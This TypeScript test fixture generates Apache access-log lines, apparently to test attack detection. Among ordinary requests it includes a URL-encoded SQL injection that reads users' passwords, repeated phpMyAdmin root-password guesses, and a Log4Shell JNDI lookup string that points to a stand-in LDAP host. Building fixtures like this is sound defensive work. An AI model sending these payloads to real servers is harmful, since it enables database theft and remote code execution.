/** Log lines for tests, in Apache's combined format. */

export interface Request {
  readonly client?: string;
  /** Epoch ms. */
  readonly time?: number;
  readonly request?: string;
  readonly status?: number;
  readonly userAgent?: string;
  readonly referer?: string;
}

const MONTHS = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ');
export const NOON = Date.UTC(2026, 10, 22, 12);
export const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0';

/** `[22/Nov/2026:12:00:00 +0000]` without the brackets. */
export function apacheTime(ms: number): string {
  const date = new Date(ms);
  const two = (value: number) => String(value).padStart(2, '0');
  const clock = [date.getUTCHours(), date.getUTCMinutes(), date.getUTCSeconds()].map(two).join(':');
  return `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${clock} +0000`;
}

/** One line; texts are given as Apache would write them. */
export function logLine(given: Request = {}): string {
  const { client = '192.0.2.1', time = NOON, request = 'GET / HTTP/1.1', status = 200 } = given;
  return `${client} - - [${apacheTime(time)}] "${request}" ${status} 512 "${given.referer ?? '-'}" "${given.userAgent ?? BROWSER}"`;
}

/** A log of ordinary requests with three attackers: SQL injection, a phpMyAdmin guesser and a Log4Shell probe. */
export function sampleLog(): string[] {
  const lines: string[] = [];
  for (let i = 0; i < 120; i++) {
    const time = NOON + i * 10_000;
    lines.push(logLine({ client: `192.0.2.${10 + (i % 7)}`, time, request: `GET /page/${i % 9} HTTP/1.1` }));
    if (i >= 20 && i < 34) {
      const request = `GET /phpmyadmin/index.php?pma_username=root&pma_password=secret${i} HTTP/1.1`;
      lines.push(logLine({ client: '198.51.100.7', time: time + 1000, request }));
    }
    if (i % 40 === 5) {
      const request = `GET /item.php?id=${i}%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20- HTTP/1.1`;
      lines.push(logLine({ client: '203.0.113.5', time: time + 2000, request, status: 500 }));
    }
    if (i === 60)
      lines.push(logLine({ client: '2001:db8:5::1', time, userAgent: '${jndi:ldap://203.0.113.99:1389/a}' }));
  }
  return lines;
}
